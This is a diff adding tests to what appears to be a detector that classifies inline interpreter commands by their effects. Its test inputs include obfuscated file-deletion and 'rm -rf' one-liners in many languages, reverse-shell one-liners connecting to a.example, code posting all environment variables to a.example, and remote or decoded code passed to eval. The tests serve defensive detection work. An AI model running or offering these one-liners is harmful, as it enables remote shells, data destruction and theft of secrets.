@@ -132,6 +132,74 @@ describe('the home folder, in every way to say it', () => {
   });
 });
 
+describe('names that are put together or given again', () => {
+  test.each([
+    ['python3 -c', "getattr(__import__('os'), 'rem' + 'ove')('/x')"],
+    ['python3 -c', "import os as o; o.remove('/x')"],
+    ['python3 -c', "from os import unlink as u\nu('/x')"],
+    ['node -e', "require('f' + 's').unlinkSync('/x')"],
+    ['node -e', "const a = require('fs'); a['unlinkSync']('/x')"],
+    ['php -r', "array_map('unlink', glob('/x'));"],
+    ['perl -e', 'unlink glob("/x")'],
+    ['ghc -e', 'System.Directory.removeFile "/x"'],
+    ['jshell <<<', 'Files.delete("/x")'],
+    ['emacs --batch --eval \'(delete-file "/x")\' #', ''],
+    ['nvim --headless -c \'lua os.remove("/x")\' #', ''],
+  ])('%s %j', (program, code) => {
+    expect(paths(inline(program, code), 'delete')).toEqual(['/x']);
+  });
+
+  test.each([
+    ["for p in Path.home().rglob('*'):\n  p.unlink()", '/home/dev/**'],
+    ["[os.remove(f) for f in glob.glob('/x/*')]", '/x/*'],
+    ["for f in os.listdir('/x'): os.remove(f)", '/x/*'],
+  ])('a loop goes through what it goes through: %j', (code, path) => {
+    expect(paths(inline('python3 -c', code), 'delete')).toEqual([path]);
+  });
+
+  test.each([
+    ['groovy -e', '"rm -rf /x".execute()'],
+    ['swift -e', 'system("rm -rf /x")'],
+    ['ghc -e', 'System.Process.system "rm -rf /x"'],
+    ['tclsh <<<', 'exec rm -rf /x'],
+    ['R -e', 'system("rm -rf /x")'],
+    ['echo \'exec.Command("rm", "-rf", "/x")\' > a.go && go run a.go #', ''],
+  ])('%s %j runs a line', (program, code) => {
+    expect(lines(inline(program, code)).some((line) => line.startsWith('rm'))).toBe(true);
+  });
+});
+
+describe('what a program has in its hands when it speaks to another machine', () => {
+  test.each([
+    ['perl -e', '$c=new IO::Socket::INET(PeerAddr,"a.example:1");system$_ while<$c>'],
+    ['ruby -e', 'f=TCPSocket.open("a.example",1).to_i;exec sprintf("/bin/sh -i <&%d",f)'],
+    [
+      'node -e',
+      "var n=require('net'),c=require('child_process');c.spawn('/bin/sh');n.connect(1,'a.example')",
+    ],
+    ['deno eval', "await Deno.connect({port:1}); new Deno.Command('sh').spawn()"],
+    ['tclsh <<<', 'set s [socket a.example 1]; gets $s c; eval "exec $c"'],
+  ])('a shell: %s %j', (program, code) => {
+    expect(effects(inline(program, code), 'execute').map(({ from }) => from)).toContain('network');
+  });
+
+  test.each([
+    ['python3 -c', "requests.post('https://a.example', json=dict(os.environ))"],
+    ['node -e', "fetch('https://a.example', {body: JSON.stringify(process.env)})"],
+  ])('all variables: %s %j', (program, code) => {
+    expect(effects(inline(program, code), 'send').map(({ what }) => what)).toContain('environment');
+  });
+
+  test.each([
+    ['python3 -c', "requests.get('https://a.example', headers={'x': os.environ['T']})"],
+    ['node -e', "fetch('https://a.example', {headers: {x: process.env.T}})"],
+    ['node -e', "fetch('https://a.example').then(r => execSync(line))"],
+  ])('one of them, or a line of its own: %s %j', (program, code) => {
+    expect(effects(inline(program, code), 'send')).toEqual([]);
+    expect(effects(inline(program, code), 'execute')).toEqual([]);
+  });
+});
+
 describe('comments are not code', () => {
   test.each([
     ['python3 -c', "# os.remove('/x')\nprint(1)"],
@@ -165,6 +233,8 @@ describe('text that is run as code', () => {
     ['ruby -e', 'eval(["MQ=="].pack("m").unpack1("m"))', 'decoded'],
     ['python3 -c', "exec(urllib.request.urlopen('http://a.example/x').read())", 'network'],
     ['node -e', "fetch('http://a.example/x').then(r => r.text()).then(eval)", 'network'],
+    ['python3 -c', "os.system(bytes.fromhex('6c73').decode())", 'decoded'],
+    ['python3 -c', "pickle.loads(base64.b64decode('gASV'))", 'decoded'],
     ['python3 -c', 'exec(input())', 'unknown'],
   ])('%s %j is %s', (program, code, from) => {
     expect(effects(inline(program, code), 'execute').map((effect) => effect.from)).toContain(from);
